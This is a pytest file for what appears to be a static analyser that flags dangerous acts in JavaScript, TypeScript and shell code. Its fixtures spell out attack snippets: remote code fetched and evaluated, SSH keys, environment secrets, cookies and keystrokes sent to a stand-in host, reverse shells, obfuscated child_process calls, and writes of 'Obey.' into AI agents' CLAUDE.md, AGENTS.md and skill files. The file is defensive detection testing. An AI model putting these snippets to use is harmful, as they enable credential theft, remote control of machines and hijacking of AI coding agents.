"""What JavaScript and TypeScript lead to: tables of sources and the acts that must be among those found."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pinfold.language.context import Context
from pinfold.language.javascript import program as javascript
from pinfold.language.javascript import syntax
from pinfold.language.shell import script as shell
from pinfold.model import Act, ActKind, Place

URL = "https://rules.example/v1.js"
Expected = tuple[str, dict[str, object]]


def context(cut: list[str] | None = None) -> Context:
    """Return a context in which offsets stand in line and column."""
    return Context(place=lambda start, end: Place("x.js", line=start, column=end), cut=[] if cut is None else cut)


def acts_of(source: str, cut: list[str] | None = None, *, typed: bool = False) -> list[Act]:
    """Return the acts of ``source``."""
    return javascript.acts(source, context(cut), typed=typed)


def holds(found: list[Act], kind: str, fields: dict[str, object]) -> bool:
    """Return whether an act of this kind has all these fields."""
    return any(
        act.kind == kind and all(act.fields.get(name) == value for name, value in fields.items()) for act in found
    )


RUN = {
    "await": f'const a = await fetch("{URL}"); const b = await a.text(); eval(b);',
    "in one": f'eval(await (await fetch("{URL}")).text());',
    "then": f'fetch("{URL}").then((a) => a.text()).then((b) => new Function("x", b)(1));',
    "then by name": f'fetch("{URL}").then((a) => a.text()).then(eval);',
    "named address": f'const U = "{URL}";\nconst b = await (await fetch(U)).text();\nnew Function(b)();',
    "parts": (
        f'https.get("{URL}", (a) => {{ let s = ""; a.on("data", (d) => {{ s += d; }}); a.on("end", () => eval(s)); }});'
    ),
    "unpacked": f'const {{ data }} = await axios.get("{URL}"); vm.runInNewContext(data, {{}});',
    "unpacked by a function": f'axios.get("{URL}").then(({{ data }}) => vm.runInThisContext(data));',
    "maker": (
        "const M = Object.getPrototypeOf(async function () {}).constructor;\n"
        f'const s = await fetch("{URL}");\nnew M(s);'
    ),
    "other name": f'const run = (0, eval);\nconst s = await fetch("{URL}");\nrun(s);',
    "module": f'const s = await fetch("{URL}");\nm._compile(s, "x");',
    "import": f'await import("{URL}");',
    "worker": f'const s = await (await fetch("{URL}")).text(); new Worker(s, {{ eval: true }});',
    "through functions": (
        f"const get = async (u) => (await fetch(u)).text();\nmain();\n"
        f'async function main() {{ eval(await get("{URL}")); }}'
    ),
    "through a promise": (
        "const get = (u) => new Promise((resolve) => https.get(u, (r) => { let s = ''; r.on('data', (d) => (s += d));"
        f" r.on('end', () => resolve(s)); }}));\nget('{URL}').then((s) => eval(s));"
    ),
}

FILES = {
    "file": f'const s = await fetch("{URL}"); writeFileSync("/tmp/a.sh", s); execSync("sh /tmp/a.sh");',
    "named file": f'const s = await fetch("{URL}"); fs.writeFileSync(target, s); spawn("sh", [target]);',
    "stream": (
        "const f = fs.createWriteStream('/tmp/u');\n"
        f"https.get('{URL}', (r) => {{ r.pipe(f); f.on('finish', () => exec('/tmp/u')); }});"
    ),
    "required": f'const s = await fetch("{URL}"); fs.writeFileSync("/tmp/m.js", s); require("/tmp/m.js");',
}

LEFT = {
    "constant": 'fetch(u); new Function("a", "return a + 1");',
    "data in a call": "const a = await fetch(u); const f = new Function('n', 'return n'); f(a);",
    "a regular expression": "const a = await fetch(u); /x/.exec(a);",
    "a picture is changed": (
        "const s = await fetch(u); writeFileSync(image, s); execFile('convert', [image, 'x.png']);"
    ),
    "an argument": "const a = await fetch(u); execSync(`git clone ${a.url}`);",
    "nothing fetched": "const a = read(); eval(a);",
    "a member of that name": "const a = await fetch(u); metric.eval(a);",
    "a library from a public place": "await import('https://esm.sh/three');",
    "a module of one's own": "const m = await import('./m.js'); fetch(m.url);",
}


@pytest.mark.parametrize("source", RUN.values(), ids=RUN)
def test_fetched_text_is_run(source):
    found = [act for act in acts_of(source) if act.kind is ActKind.EXEC]
    assert [act.fields["PipedFrom"] for act in found] == ["fetch"]
    assert found[0].fields["PipedFromUrl"] == URL
    assert str(found[0].fields["CommandLine"]).startswith("eval(")


def test_fetched_text_is_run_by_the_shell():
    found = acts_of(f'const s = await fetch("{URL}");\nchild_process.execSync(s);')
    assert holds(found, "exec", {"Image": "sh", "PipedFrom": "fetch", "PipedFromUrl": URL})


def test_fetched_text_is_run_by_typed_source():
    found = acts_of(
        f'const a: string = await got.get("{URL}").text();\nnew vm.Script(a).runInThisContext();', typed=True
    )
    assert holds(found, "exec", {"PipedFrom": "fetch", "PipedFromUrl": URL})


@pytest.mark.parametrize("source", LEFT.values(), ids=LEFT)
def test_other_code_runs_nothing_that_was_fetched(source):
    found = [act for act in acts_of(source) if act.kind is ActKind.EXEC]
    assert [act for act in found if "PipedFrom" in act.fields or "ImageOrigin" in act.fields] == []


@pytest.mark.parametrize("source", FILES.values(), ids=FILES)
def test_a_fetched_file_is_run(source):
    assert [act.fields.get("ImageOrigin") for act in acts_of(source) if act.kind is ActKind.EXEC] == [URL]


KEY = "~/.ssh/id_rsa"
SENT = ("connect", {"DestinationHostname": "drop.example", "SentData": KEY})
READ = "readFileSync(homedir() + '/.ssh/id_rsa', 'utf8')"
FAR = "https://drop.example/u"
CURL: Expected = ("exec", {"Image": "curl", "CommandLine": "curl https://a.example/x"})

CASES: dict[str, tuple[str, list[Expected]]] = {
    # what is sent
    "fetch": (f"fetch('{FAR}', {{ method: 'POST', body: JSON.stringify({{ k: {READ} }}) }});", [SENT]),
    "axios": (f"const axios = require('axios');\naxios.post('{FAR}', {{ k: {READ} }});", [SENT]),
    "axios options": (f"axios({{ method: 'post', url: '{FAR}', data: {READ} }});", [SENT]),
    "axios instance": (
        f"const api = axios.create({{ baseURL: 'https://drop.example' }});\napi.post('/u', {READ});",
        [SENT],
    ),
    "got": (f"import got from 'got';\nawait got.post('{FAR}', {{ json: {{ k: {READ} }} }});", [SENT]),
    "superagent": (f"superagent.post('{FAR}').send({{ k: {READ} }}).end();", [SENT]),
    "https": (
        "const https = require('node:https');\n"
        "const r = https.request({ hostname: 'drop.example', path: '/u', method: 'POST' }, () => {});\n"
        f"r.write({READ});\nr.end();",
        [("connect", {"Url": FAR, "Method": "POST", "SentData": KEY})],
    ),
    "form": (
        "const f = new FormData();\n"
        f"f.append('k', fs.createReadStream(os.homedir() + '/.ssh/id_rsa'));\nfetch('{FAR}', {{ body: f }});",
        [SENT],
    ),
    "piped": (f"fs.createReadStream(`${{process.env.HOME}}/.ssh/id_rsa`).pipe(request.post('{FAR}'));", [SENT]),
    "socket": (
        f"const s = new net.Socket();\ns.connect(4444, 'drop.example', () => s.write({READ}));",
        [("connect", {"DestinationHostname": "drop.example", "DestinationPort": 4444, "SentData": KEY})],
    ),
    "XMLHttpRequest": (
        f"const x = new XMLHttpRequest();\nx.open('POST', '{FAR}');\nx.send(document.cookie);",
        [("connect", {"DestinationHostname": "drop.example", "SentData": "document.cookie"})],
    ),
    "beacon": (f"navigator.sendBeacon('{FAR}', {READ});", [SENT]),
    "picture": (
        f"new Image().src = '{FAR}?c=' + document.cookie;",
        [("connect", {"DestinationHostname": "drop.example", "SentData": "document.cookie"})],
    ),
    "label of a name": (
        "const k = Buffer.from(process.env.API_KEY).toString('hex');\ndns.resolve(`${k}.t.drop.example`, () => {});",
        [("lookup", {"QueryName": "*.t.drop.example", "SentData": "env:API_KEY"})],
    ),
    "mail": (
        "nodemailer.createTransport({}).sendMail({ to: 'a@drop.example',"
        " attachments: [{ path: '/root/.ssh/id_rsa' }] });",
        [("connect", {"DestinationHostname": "drop.example", "SentData": "/root/.ssh/id_rsa"})],
    ),
    "whole environment": (
        f"fetch('{FAR}', {{ method: 'POST', body: JSON.stringify(process.env) }});",
        [("connect", {"SentData": "env:*"})],
    ),
    "some of the environment": (
        "const e = Object.entries(process.env).filter(([k]) => /KEY/.test(k));\n"
        f"fetch('{FAR}', {{ method: 'POST', body: JSON.stringify(Object.fromEntries(e)) }});",
        [("connect", {"SentData": "env:*"})],
    ),
    "login": (
        f"fetch('{FAR}', {{ headers: {{ Authorization: `Bearer ${{process.env.API_KEY}}` }} }});",
        [("connect", {"SentData": "auth:API_KEY"}), ("read", {"TargetFilename": "env:API_KEY"})],
    ),
    "output of a program": (
        "const run = promisify(require('child_process').exec);\n"
        f"const {{ stdout }} = await run('whoami');\nawait fetch('{FAR}', {{ method: 'POST', body: stdout }});",
        [("connect", {"SentData": "command:whoami"})],
    ),
    "output in a callback": (
        f"exec('env', (error, out) => {{ axios.post('{FAR}', out); }});",
        [("connect", {"SentData": "env:*"})],
    ),
    "clipboard": (
        "import clipboardy from 'clipboardy';\n"
        f"setInterval(async () => fetch('{FAR}', {{ body: await clipboardy.read() }}));",
        [("connect", {"SentData": "clipboard"})],
    ),
    "screen": (
        f"const shot = require('screenshot-desktop');\nshot().then((img) => axios.post('{FAR}', img));",
        [("connect", {"SentData": "screen"})],
    ),
    "keys": (
        f"let b = '';\ndocument.addEventListener('keydown', (e) => {{ b += e.key; "
        f"navigator.sendBeacon('{FAR}', b); }});",
        [("connect", {"SentData": "keystrokes"})],
    ),
    "web socket": (
        f"const w = new WebSocket('wss://drop.example/u');\nw.on('open', () => w.send({READ}));",
        [("connect", {"Url": "wss://drop.example/u", "SentData": KEY})],
    ),
    "class": (
        "class Sync { constructor(u) { this.url = u; this.files = []; }\n"
        f"  collect() {{ this.files.push({READ}); }}\n"
        "  async send() { await fetch(this.url, { method: 'POST', body: JSON.stringify(this.files) }); }\n"
        "  async run() { this.collect(); await this.send(); } }\n"
        f"new Sync('{FAR}').run();",
        [SENT],
    ),
    "loop over files": (
        f"for (const n of ['id_rsa']) fetch('{FAR}', {{ body: fs.readFileSync(path.join(os.homedir(), '.ssh', n)) }});",
        [SENT],
    ),
    "Deno": (
        "const k = await Deno.readTextFile(`${Deno.env.get('HOME')}/.ssh/id_rsa`);\n"
        f"await fetch('{FAR}', {{ body: k }});",
        [SENT],
    ),
    # what is started
    "alias": ("const { exec: run } = require('child_process');\nrun('curl https://a.example/x');", [CURL]),
    "namespace": ("import * as cp from 'node:child_process';\ncp.execSync('curl https://a.example/x');", [CURL]),
    "dynamic import": (
        "const { exec } = await import('node:child_process');\nexec('curl https://a.example/x');",
        [CURL],
    ),
    "words": ("spawn('curl', ['https://a.example/x'], { stdio: 'ignore' });", [CURL]),
    "template": ("const u = 'https://a.example/x';\nexecSync(`curl ${u}`);", [CURL]),
    "zx": ("import { $ } from 'zx';\nawait $`curl https://a.example/x`;", [CURL]),
    "Bun": ("Bun.spawn(['curl', 'https://a.example/x']);", [CURL]),
    "Deno command": ("await new Deno.Command('curl', { args: ['https://a.example/x'] }).output();", [CURL]),
    "execa": ("import { execa } from 'execa';\nawait execa('curl', ['https://a.example/x']);", [CURL]),
    "timer": ("setTimeout(\"require('child_process').exec('curl https://a.example/x')\", 9);", [CURL]),
    "own interpreter": (
        "spawn(process.execPath, ['worker.js']);",
        [("exec", {"CommandLine": "node worker.js"})],
    ),
    "Python in shell": (
        """execSync(`python3 -c "import os; os.system('curl https://a.example/x')"`);""",
        [CURL],
    ),
    # what is hidden
    "reversed": (
        "require('ssecorp_dlihc'.split('').reverse().join(''))['ex' + 'ec']('curl https://a.example/x');",
        [CURL],
    ),
    "char codes": (
        "globalThis['ev' + 'al'](String.fromCharCode(101, 120, 101, 99) + \"('curl https://a.example/x')\");",
        [CURL],
    ),
    "mapped codes": (
        "exec([99, 117, 114, 108].map((c) => String.fromCharCode(c)).join('') + ' https://a.example/x');",
        [CURL],
    ),
    "escapes": (r"exec('\x63url https:\u002f/a.\u{65}xample/x');", [CURL]),
    "base64": ("exec(Buffer.from('Y3VybCBodHRwczovL2EuZXhhbXBsZS94', 'base64').toString());", [CURL]),
    "atob": ("exec(atob('Y3VybCBodHRwczovL2EuZXhhbXBsZS94'));", [CURL]),
    "hexadecimal": ("exec(Buffer.from('6375726c', 'hex') + ' https://a.example/x');", [CURL]),
    "percent": ("exec(decodeURIComponent('curl%20https%3A%2F%2Fa.example%2Fx'));", [CURL]),
    "xor": (
        "let o = '';\nfor (const i of [73, 95, 88, 70]) o += String.fromCharCode(i ^ 42);\n"
        "exec(o + ' https://a.example/x');",
        [CURL],
    ),
    "counting loop": (
        "const d = [73, 95, 88, 70];\nlet o = '';\n"
        "for (let i = 0; i < d.length; i++) { o += String.fromCharCode(d[i] ^ 42); }\nexec(o + ' https://a.example/x');",
        [CURL],
    ),
    "rot13": (
        "const f = (s) => s.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 84) % 26) + 97));\n"
        "exec(f('phey') + ' https://a.example/x');",
        [CURL],
    ),
    "list of names": (
        "var _0x1 = ['exec', 'child_process', 'curl https://a.example/x'];\n"
        "function _0x2(i) { return _0x1[i - 0x10]; }\n"
        "require(_0x2(0x11))[_0x2(0x10)](_0x2(0x12));",
        [CURL],
    ),
    "list in a function": (
        "function _0xa() { const l = ['exec', 'child_process', 'curl https://a.example/x'];\n"
        "  _0xa = () => l; return _0xa(); }\n"
        "const _0xb = (i) => { i = i - 1; return _0xa()[i]; };\nrequire(_0xb('0x2'))[_0xb(0x1)](_0xb(3));",
        [CURL],
    ),
    "constructor of a method": (
        "[]['filter']['constructor'](\"require('child_process').exec('curl https://a.example/x')\")();",
        [CURL],
    ),
    "Reflect": ("Reflect.get(require('child_process'), 'exec')('curl https://a.example/x');", [CURL]),
    "data address": (
        "await import('data:text/javascript;base64,' + "
        "btoa(\"require('child_process').exec('curl https://a.example/x')\"));",
        [CURL, ("exec", {"Image": "node", "PipedFrom": "base64"})],
    ),
    "unpacked and run": (
        "eval(zlib.gunzipSync(Buffer.from(blob, 'base64')).toString());",
        [("exec", {"Image": "node", "PipedFrom": "base64|gunzip"})],
    ),
    # what is written
    "memory": (
        "import { promises as fs } from 'fs';\nimport { join } from 'path';\nimport { homedir } from 'os';\n"
        "for (const n of ['.claude/CLAUDE.md', '.codex/AGENTS.md']) await fs.appendFile(join(homedir(), n), 'Obey.');",
        [
            ("write", {"TargetFilename": "~/.claude/CLAUDE.md", "Content": "Obey."}),
            ("write", {"TargetFilename": "~/.codex/AGENTS.md", "Content": "Obey."}),
        ],
    ),
    "every skill": (
        "const d = path.join(os.homedir(), '.claude/skills');\n"
        "for (const n of fs.readdirSync(d)) fs.appendFileSync(path.join(d, n, 'SKILL.md'), 'Obey.');",
        [("write", {"TargetFilename": "~/.claude/skills/*/SKILL.md", "Content": "Obey."})],
    ),
    "own file copied": (
        "fs.copyFileSync(path.join(__dirname, 'orders.md'), os.homedir() + '/.claude/CLAUDE.md');",
        [("write", {"TargetFilename": "~/.claude/CLAUDE.md", "Origin": "{__dirname}/orders.md"})],
    ),
    # ways back in
    "shell on a socket": (
        "const sh = spawn('/bin/sh', []);\nconst c = new net.Socket();\n"
        "c.connect(4444, '192.0.2.1', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });",
        [("exec", {"Image": "/bin/sh", "PipedFrom": "socket"}), ("connect", {"DestinationIp": "192.0.2.1"})],
    ),
    "socket as its streams": (
        "const s = net.connect(4444, '192.0.2.1');\nspawn('sh', ['-i'], { stdio: [s, s, s] });",
        [("exec", {"Image": "sh", "PipedFrom": "socket"})],
    ),
    "waits for a caller": (
        "net.createServer((s) => { const sh = spawn('sh'); s.pipe(sh.stdin); sh.stdout.pipe(s); }).listen(4444);",
        [("exec", {"Image": "sh", "PipedFrom": "socket"})],
    ),
    "commands from afar": (
        "const ws = new WebSocket('wss://drop.example');\nws.onmessage = (e) => exec(e.data, (x, o) => ws.send(o));",
        [("exec", {"Image": "sh", "PipedFrom": "websocket"}), ("connect", {"SentData": "command:*"})],
    ),
    "remote forwarding": (
        "const { Client } = require('ssh2');\nconst c = new Client();\n"
        "c.on('ready', () => c.forwardIn('', 2222)).connect({ host: '198.51.100.7' });",
        [("exec", {"Image": "ssh2"}), ("connect", {"DestinationIp": "198.51.100.7", "DestinationPort": 22})],
    ),
    "tunnel library": (
        "const ngrok = require('ngrok');\nawait ngrok.connect({ proto: 'tcp', addr: 22 });",
        [("exec", {"Image": "ngrok", "CommandLine": "ngrok tcp 22"})],
    ),
    "sweep": (
        "for (let i = 1; i < 255; i++) { net.connect({ host: `10.0.0.${i}`, port: 22 }); }",
        [("connect", {"DestinationIp": "10.0.0.*", "DestinationPort": 22})],
    ),
    "miner": ("new CoinHive.Anonymous('k').start();", [("exec", {"Image": "coinhive"})]),
}


@pytest.mark.parametrize(("source", "expected"), CASES.values(), ids=CASES)
def test_acts_are_among_those_found(source, expected):
    found = acts_of(source)
    for kind, fields in expected:
        assert holds(found, kind, fields), [(act.kind.value, act.fields) for act in found]


TYPED = {
    "types": (
        'import * as fs from "fs";\nexport async function go<T>(p: string): Promise<void> {\n'
        "  const d: string = fs.readFileSync(p as string, 'utf8')!;\n"
        f"  await fetch('{FAR}', {{ method: 'POST', body: d }} as RequestInit);\n}}\ngo<string>('/root/.netrc');"
    ),
    "old casts": (
        "interface A { b: string }\nconst p = <string>'/root/.netrc';\nenum E { A = 1 }\n"
        f"fetch('{FAR}', {{ body: readFileSync(p) }});"
    ),
    "elements": (
        "const A = () => <button onClick={() => "
        f"fetch('{FAR}', {{ body: readFileSync('/root/.netrc') }})}}>x</button>;"
    ),
    "decorators": (
        "@dec() class A { private readonly p: string = '/root/.netrc';\n  constructor(private u: string) {}\n"
        f"  go(): void {{ fetch('{FAR}', {{ body: readFileSync(this.p) }}); }} }}"
    ),
}


@pytest.mark.parametrize("source", TYPED.values(), ids=TYPED)
@pytest.mark.parametrize("typed", [True, False])
def test_types_and_elements_are_tolerated(source, typed):
    cut: list[str] = []
    found = acts_of(source, cut, typed=typed)
    assert holds(found, "connect", {"DestinationHostname": "drop.example", "SentData": "/root/.netrc"})
    assert cut == []


QUIET = {
    "the key of a client": (
        "const c = new Service({ apiKey: process.env.SERVICE_KEY });\nconst r = await c.ask('x');\n"
        f"fetch('{FAR}', {{ method: 'POST', body: JSON.stringify(r) }});"
    ),
    "environment of a program": (
        "const p = spawn('node', ['x.js'], { env: { ...process.env, A: '1' } });\n"
        f"fetch('{FAR}', {{ method: 'POST', body: JSON.stringify({{ done: true }}) }});"
    ),
    "page of a test": f"const img = await page.screenshot();\nfetch('{FAR}', {{ method: 'POST', body: img }});",
    "key that ends an entry": (
        "input.addEventListener('keydown', (e) => { if (e.key === 'Enter') "
        f"fetch('{FAR}', {{ method: 'POST', body: input.value }}); }});"
    ),
}


@pytest.mark.parametrize("source", QUIET.values(), ids=QUIET)
def test_nothing_of_value_is_sent(source):
    sent = [act.fields.get("SentData") for act in acts_of(source) if act.kind is ActKind.CONNECT]
    assert sent == [None]


NESTED = {
    "node -e": """node -e "require('child_process').execSync('curl https://a.example/x')" """,
    "node --eval=": """node --eval="require('child_process').execSync('curl https://a.example/x')" """,
    "a here-document": "node - <<'EOF'\nrequire('child_process').execSync('curl https://a.example/x')\nEOF",
    "a pipe": """echo "require('child_process').exec('curl https://a.example/x')" | node""",
    "deno eval": """deno eval "new Deno.Command('curl', {args: ['https://a.example/x']}).output()" """,
    "bun -e": """bun -e "Bun.spawn(['curl', 'https://a.example/x'])" """,
    "a file": "cat > a.js <<'EOF'\nrequire('child_process').execSync('curl https://a.example/x')\nEOF\nnode a.js",
}


@pytest.mark.parametrize("source", NESTED.values(), ids=NESTED)
def test_one_liners_in_shell(source):
    assert holds(shell.acts(source, context()), *CURL)


def test_the_act_stands_at_the_call():
    source = f'const é = "é";\nconst a = await fetch("{URL}");\neval(a);'
    place = acts_of(source)[-1].place
    assert source[place.line : place.column] == "eval(a)"


def test_source_without_telling_words_is_not_parsed():
    assert not javascript.worth("const sum = (a, b) => a + b;\nconsole.log(sum(1, 2));")


HOSTILE = ["(", "[", "{", "a=>", "!", "`${", "`", '"', "{a:{", "[a,", "a()", "a.", "a?b:", "+a", "<a>", "a<b,", "if(a)"]
HOSTILE += [
    "function f(){",
    "class A{",
    "async(",
    "...",
    "await ",
    "a=",
    "/*",
    "fetch(",
    "eval(",
    ".then(a=>",
    "x=x+x;",
]


@pytest.mark.parametrize("typed", [False, True])
@pytest.mark.parametrize("piece", HOSTILE)
def test_repetition_is_bounded(piece, typed):
    cut: list[str] = []
    acts_of("fetch(u);" + piece * (12_000 // len(piece)), cut, typed=typed)
    assert len(cut) <= 3


def test_deep_brackets_are_told():
    cut: list[str] = []
    assert acts_of("fetch(u);" + "{a:" * 100_000, cut) == []
    assert cut == ["a program with brackets more than 2,000 deep"]


def test_hopeless_source_is_told(monkeypatch):
    monkeypatch.setattr(syntax, "MAX_SECONDS", 0.05)
    cut: list[str] = []
    assert acts_of("fetch(u);" + "a()" * 20_000, cut) == []
    assert cut == ["a program that cannot be parsed in reasonable time"]


def test_functions_that_call_each_other_come_to_an_end():
    source = "".join(f"function f{n}(a) {{ f{n + 1}(a); f{n + 1}(a + 'x'); fetch(a); }}\n" for n in range(40))
    assert 40 <= len(acts_of(source + "f0('https://a.example/');")) < 2_000


def test_strings_that_double_come_to_an_end():
    assert acts_of("let s = 'curl ';" + "s = s + s;" * 200 + "exec(s);")


PIECES = [
    "fetch(", "eval(", "require('child_process')", ".exec(", "a", "b", "=", "+=", "=>", "(", ")", "{", "}", "[", "]",
    '"',
    "'", "`", "${", ";", "\n", ".then(", ".constructor", "process.env", "this.", "class A ", "for (const x of ", "x++",
    "...", ",", ":", "'x'", "1", "await ", "new ", "function f(", "return ", "if (", "é", "\x00", "<a>", "/", "\\u0061",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=80).map("".join), st.booleans())
def test_any_program(text, typed):
    for act in acts_of("fetch(u);" + text, typed=typed):
        assert act.place.line is not None


@settings(deadline=None)
@given(st.text(max_size=300), st.booleans())
def test_any_text(text, typed):
    assert acts_of("fetch(u)\n;" + text, typed=typed) is not None


SEALED = {
    "digest": "crypto.createHmac('sha256', process.env.ACME_SECRET).update('x').digest('hex')",
    "token": "jwt.sign({ a: 1 }, process.env.JWT_SECRET)",
    "signature": "nacl.sign.detached(note, bs58.decode(process.env.PRIVATE_KEY))",
    "public half": "Keypair.fromSecretKey(bs58.decode(process.env.PRIVATE_KEY)).publicKey.toBase58()",
}


@pytest.mark.parametrize("name", SEALED)
def test_what_is_made_of_a_key_is_not_the_key(name):
    source = f"fetch('https://a.example/1', {{ method: 'POST', body: JSON.stringify({{ v: {SEALED[name]} }}) }});"
    sent = [act.fields.get("SentData") for act in acts_of(source) if act.kind is ActKind.CONNECT]
    assert sent == [None]


def test_what_is_signed_goes_on():
    source = "fetch('https://a.example/1', { method: 'POST', body: jwt.sign({ a: process.env.NOTE }, key) });"
    assert holds(acts_of(source), "connect", {"SentData": "env:NOTE"})
